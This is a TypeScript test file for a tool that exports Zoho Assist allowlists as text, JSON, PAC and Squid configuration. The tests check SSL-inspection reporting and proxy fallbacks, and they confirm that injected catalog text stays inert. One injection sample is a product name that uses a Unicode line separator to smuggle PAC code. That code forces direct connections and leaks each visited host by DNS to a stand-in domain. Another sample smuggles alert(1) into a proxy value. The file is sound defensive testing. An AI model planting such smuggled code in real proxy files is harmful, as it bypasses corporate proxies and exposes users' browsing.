import fc from 'fast-check';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { catalogSchema, isInDomains, type Catalog } from '../../../shared/catalog';
import { detailOf, type CheckRun } from '../../../shared/check-result';
import { builtInCatalog } from '../catalog/load-catalog';
import { commandOf, runCommand } from '../os/run-command';
import { compilePac } from '../proxy/pac-thread';
import { exportAllowlist } from './allowlist-export';
import { buildAllowlist } from './allowlist-model';
import { isPacAnswer } from '../../../shared/pac-answer';
import { pacFallbackFromRun } from './pac-file';

const catalog = builtInCatalog();

const lastRun: CheckRun = {
  schemaVersion: 1,
  tool: { name: 'session-prep', version: '0.1.0' },
  startedAt: '2026-11-25T08:00:00.000Z',
  durationMs: 1200,
  ready: false,
  system: {},
  checks: [
    {
      id: 'tcp:assist.zoho.com:443',
      kind: 'tcp',
      target: { host: 'assist.zoho.com', port: 443 },
      status: 'pass',
      verdict: 'ok',
      durationMs: 10,
      message: 'ok',
    },
    {
      id: 'tls:assist.zoho.com:443',
      kind: 'tls',
      target: { host: 'assist.zoho.com', port: 443 },
      status: 'fail',
      verdict: 'tls_intercepted',
      durationMs: 20,
      message: 'intercepted',
      detail: {
        certificate: {
          subject: 'CN=assist.zoho.com',
          issuer: 'CN=Corp Inspection CA, O=Example Corp',
          validFrom: '2026-01-01T00:00:00.000Z',
          validTo: '2027-01-01T00:00:00.000Z',
          fingerprint256: 'AB:CD',
          serialNumber: '01',
        },
      },
    },
  ],
};

describe('allowlist text and json', () => {
  it('lists domains, ports with WebSocket, the run’s causes in words, SSL exclusions with the issuer, signers, folders', () => {
    const text = exportAllowlist(buildAllowlist(catalog, lastRun), 'text', 'en', undefined, {
      run: lastRun,
      redact: false,
    }).content;
    const lines = text.split('\n').map((l) => l.trim());
    expect(lines).toContain('*.zoho.com');
    expect(lines).toContain('443/tcp (TLS, WebSocket must pass)');
    expect(lines).toContain('80/tcp (HTTP, WebSocket must pass)');
    // The verdict in words, the host under it; no check id, no verdict code.
    expect(lines).toContain('1. SSL inspection: a device decrypts the traffic');
    expect(lines).toContain('Address: assist.zoho.com');
    expect(text).not.toMatch(/tls:assist|tls_intercepted|: ok\b/);
    expect(lines).toContain(
      'assist.zoho.com was decrypted by a device whose certificate is issued by: CN=Corp Inspection CA, O=Example Corp',
    );
    expect(lines).toContain('ZohoMeeting.exe, signed by ZOHO Corporation Private Limited');
    expect(lines).toContain('%LOCALAPPDATA%/ZohoMeeting (Windows)');
  });

  it('asks IT in the intercepting product’s own words (issue 12), and marks each domain with its source', () => {
    const tls = lastRun.checks[1]!;
    const zscaled: CheckRun = {
      ...lastRun,
      checks: [
        ...lastRun.checks,
        ...['join.zoho.com', 'gateway.zohoassist.com'].map((host) => ({
          ...tls,
          id: `tls:${host}:443`,
          target: { host, port: 443 },
          detail: {
            certificate: {
              ...detailOf(tls, 'tls')!.certificate!,
              issuer:
                'CN=Zscaler Intermediate Root CA (zscalerthree.net) (t), OU=Zscaler Inc., O=Zscaler Inc.',
            },
            interception: {
              product: 'Zscaler',
              matchedBy: 'issuer' as const,
              issuer:
                'CN=Zscaler Intermediate Root CA (zscalerthree.net) (t), OU=Zscaler Inc., O=Zscaler Inc.',
              root: 'CN=Zscaler Root CA, OU=Zscaler Inc., O=Zscaler Inc.',
              productId: 'zscaler',
              pattern: 'O=Zscaler Inc.',
            },
          },
        })),
      ] as CheckRun['checks'],
    };
    const model = buildAllowlist(catalog, zscaled);
    expect(model.interceptors).toEqual([
      {
        product: null,
        issuer: 'CN=Corp Inspection CA, O=Example Corp',
        hosts: ['assist.zoho.com'],
      },
      {
        product: 'Zscaler',
        productId: 'zscaler',
        place: 'network',
        issuer:
          'CN=Zscaler Intermediate Root CA (zscalerthree.net) (t), OU=Zscaler Inc., O=Zscaler Inc.',
        hosts: ['join.zoho.com', 'gateway.zohoassist.com'],
      },
    ]);
    const text = exportAllowlist(model, 'text', 'en').content;
    const lines = text.split('\n').map((l) => l.trim());
    const at = lines.indexOf(
      'Zscaler decrypts these connections: exempt the domains above from its SSL inspection',
    );
    expect(at).toBeGreaterThan(-1);
    expect(lines.slice(at + 1, at + 3)).toEqual([
      'What to set: an SSL Inspection rule with the action "Do Not Inspect" (an SSL bypass), for every Zoho Assist domain listed above.',
      'Seen decrypting: join.zoho.com, gateway.zohoassist.com',
    ]);
    expect(text).toContain(
      'An SSL-inspection device (issuer CN=Corp Inspection CA, O=Example Corp) decrypts these connections',
    );
    // The vendor's own domains first; those only others found, under their own line after them.
    const seen = lines.indexOf(
      'Further domains seen in use (not in Zoho Assist’s own documentation):',
    );
    expect(lines.indexOf('*.zoho.com')).toBeLessThan(seen);
    expect(lines.indexOf('*.zohoassist.eu')).toBeGreaterThan(seen);
    const ja = exportAllowlist(model, 'text', 'ja').content;
    expect(ja).toContain(
      '設定する内容: SSL Inspection ルールでアクション「Do Not Inspect」を指定する設定',
    );
  });

  it('carries the changes this PC could not make, for IT to make centrally', () => {
    const model = buildAllowlist(catalog, undefined, [
      { title: 'Exclude the agent’s folders', reason: 'Tamper Protection is on.' },
    ]);
    expect(exportAllowlist(model, 'text', 'en').content).toMatch(
      /Changes this PC could not make itself \(please make them centrally\):\n +Exclude the agent’s folders: Tamper Protection is on\.\n/,
    );
    expect(JSON.parse(exportAllowlist(model, 'json', 'en').content).pcChangesForIt).toHaveLength(1);
    expect(exportAllowlist(buildAllowlist(catalog), 'text', 'en').content).not.toContain(
      'could not make',
    );
  });

  it('writes Japanese headings without a run', () => {
    const text = exportAllowlist(buildAllowlist(catalog), 'text', 'ja').content;
    expect(text).toContain('この PC はまだ確認していません。');
    expect(text).toContain('WebSocket を通す必要があります');
  });

  it('lists endpoint hosts no domain covers by name (json)', () => {
    const custom: Catalog = catalogSchema.parse({ ...catalog, domains: ['*.zoho.com'] });
    const json = JSON.parse(exportAllowlist(buildAllowlist(custom), 'json', 'en').content);
    expect(json.extraHosts).toContain('gateway.zohoassist.com');
    expect(json.extraHosts).not.toContain('assist.zoho.com');
  });
});

describe('PAC file, evaluated by pac-resolver in QuickJS (the product’s own PAC engine)', () => {
  async function resolver(content: string) {
    const pac = await compilePac(content, 5000);
    if (!pac.ok) throw new Error(`the PAC did not compile: ${pac.reason}`);
    return (url: string) => pac.findProxy(url, new URL(url).hostname);
  }

  it('answers DIRECT for every host of the catalog and the fallback for others', async () => {
    const { content, fileName, mimeType } = exportAllowlist(
      buildAllowlist(catalog),
      'pac',
      'en',
      'PROXY proxy.corp.example:8080; DIRECT',
    );
    expect(fileName).toBe('session-prep-allowlist-zoho-assist.pac');
    expect(mimeType).toBe('application/x-ns-proxy-autoconfig');
    const find = await resolver(content);
    for (const e of catalog.endpoints) {
      expect(await find(`https://${e.host}/`), e.host).toBe('DIRECT');
      expect(await find(`http://${e.host.toUpperCase()}./x`), e.host).toBe('DIRECT');
    }
    for (const d of catalog.domains) {
      const host = d.startsWith('*.') ? `any-gw1${d.slice(1)}` : d;
      expect(await find(`https://${host}/w_socket`), host).toBe('DIRECT');
    }
    for (const other of [
      'example.com',
      'zoho.com.evil.example',
      'notzoho.com',
      'zohoassist.com.attacker.net',
    ]) {
      expect(isInDomains(other, catalog.domains)).toBe(false);
      expect(await find(`https://${other}/`), other).toBe('PROXY proxy.corp.example:8080; DIRECT');
    }
  });

  it('only takes a PAC answer as fallback, and has none by default', async () => {
    expect(isPacAnswer('PROXY a.example:3128')).toBe(true);
    expect(isPacAnswer('SOCKS5 10.0.0.1:1080; DIRECT')).toBe(true);
    expect(isPacAnswer('PROXY a"; alert(1); "')).toBe(false);
    expect(isPacAnswer('')).toBe(false);
    expect(() => exportAllowlist(buildAllowlist(catalog), 'pac', 'en', 'bogus')).toThrow();
    expect(() => exportAllowlist(buildAllowlist(catalog), 'pac', 'en')).toThrow(/fallback/);
  });

  // Issue 14: a catalog name with U+2028 ended the comment and injected code that answered DIRECT for
  // every site and leaked each visited host by DNS. Now every catalog string is an ASCII-only literal.
  it('carries catalog text only as data: a name that ends a comment injects nothing', async () => {
    const evil = catalogSchema.parse({
      ...catalog,
      name: 'Zoho\u2028return "DIRECT"; dnsResolve(host + ".leak.example");\u2029<!-- --> */\r\n\u202e',
    });
    const { content } = exportAllowlist(
      buildAllowlist(evil),
      'pac',
      'en',
      'PROXY proxy.corp.example:8080',
    );
    expect(content).toMatch(/^[\t\n\x20-\x7e]*$/);
    expect(content).not.toContain('<!--');
    expect(content).not.toContain('-->');
    expect(content.split('\n')[0]).toMatch(
      /^\/\/ PAC file for "Zoho\\u2028return .*", generated by Session Prep\.$/,
    );
    const find = await resolver(content);
    expect(await find('https://intranet.corp.example/')).toBe('PROXY proxy.corp.example:8080');
    expect(await find('https://assist.zoho.com/')).toBe('DIRECT');
    const squid = exportAllowlist(buildAllowlist(evil), 'squid', 'en').content;
    expect(squid.split('\n')[0]).toMatch(/^# What "Zoho\\u2028.*" needs/);
    expect(squid).toMatch(/^[\n\x20-\x7e]*$/);
    const text = exportAllowlist(buildAllowlist(evil), 'text', 'en').content;
    expect(text.split('\n')[0]).toContain('Zoho[U+2028]return');
    expect(text).not.toMatch(/[\u2028\u2029\u202e\r]/);
  });

  it('stays data for any product name (bounded fuzz, evaluated by the PAC engine)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), async (name) => {
        const model = buildAllowlist(catalogSchema.parse({ ...catalog, name: name || 'x' }));
        const { content } = exportAllowlist(model, 'pac', 'en', 'PROXY p.example:3128');
        expect(content).toMatch(/^[\t\n\x20-\x7e]*$/);
        const find = await resolver(content);
        expect(await find('https://other.example/')).toBe('PROXY p.example:3128');
      }),
      { numRuns: 25 },
    );
    // 25 PAC engines in a row: on a loaded machine this takes far longer than one test's default limit.
  }, 90_000);
});

describe('pacFallbackFromRun', () => {
  it('keeps everything else on the proxy the last run used; DIRECT only when it went direct', () => {
    expect(pacFallbackFromRun({ url: 'http://proxy.corp.example:8080', source: 'system' })).toBe(
      'PROXY proxy.corp.example:8080',
    );
    expect(pacFallbackFromRun({ url: 'http://proxy.corp.example', source: 'env' })).toBe(
      'PROXY proxy.corp.example:80',
    );
    expect(pacFallbackFromRun({ url: 'https://secure.corp.example', source: 'flag' })).toBe(
      'HTTPS secure.corp.example:443',
    );
    // Issue 14: a PC whose own PAC sent the vendor through a proxy keeps that proxy for everything else.
    expect(pacFallbackFromRun({ url: 'http://proxy.corp.example:8080', source: 'pac' })).toBe(
      'PROXY proxy.corp.example:8080',
    );
    expect(pacFallbackFromRun({ url: null, source: 'none' })).toBe('DIRECT');
    // Nothing to go by: IT must say.
    expect(pacFallbackFromRun({ url: null, source: 'pac' })).toBeUndefined();
    expect(pacFallbackFromRun(undefined)).toBeUndefined();
  });
});

describe('Squid fragment, parsed by the real squid', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sp-squid-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function parse(fragment: string): Promise<{ code: number; output: string }> {
    const fragPath = join(dir, 'session-prep.conf');
    await writeFile(fragPath, fragment);
    const main = join(dir, 'squid.conf');
    await writeFile(main, `http_port 127.0.0.1:3128\ninclude ${fragPath}\nhttp_access deny all\n`);
    const result = await runCommand(commandOf(['squid', '-k', 'parse', '-f', main], 60_000));
    return { code: result.code ?? -1, output: result.stdout + result.stderr };
  }

  it('is accepted with no warning, and drops names a wider entry covers', async () => {
    const { content } = exportAllowlist(buildAllowlist(catalog), 'squid', 'en');
    const parsed = await parse(content);
    expect(parsed.code, parsed.output).toBe(0);
    expect(parsed.output).not.toMatch(/WARNING|ERROR|FATAL/);
    expect(parsed.output).toContain(
      'Processing: acl session_prep_zoho_assist_domains dstdomain .zoho.com .zoho.eu',
    );
    expect(parsed.output).toContain(
      'Processing: http_upgrade_request_protocols WebSocket allow session_prep_zoho_assist_domains',
    );
    expect(parsed.output).toContain('Processing: ssl_bump splice session_prep_zoho_assist_no_bump');
    expect(content).not.toMatch(/ downloads\.zohocdn\.com/);
    expect(content).toContain('downloads.zohodl.com.cn');
  });

  it('the parse check itself catches a broken fragment', async () => {
    const parsed = await parse('acl broken dstdomain\nhttp_access allow nosuchacl\n');
    expect(parsed.code).not.toBe(0);
  });
});
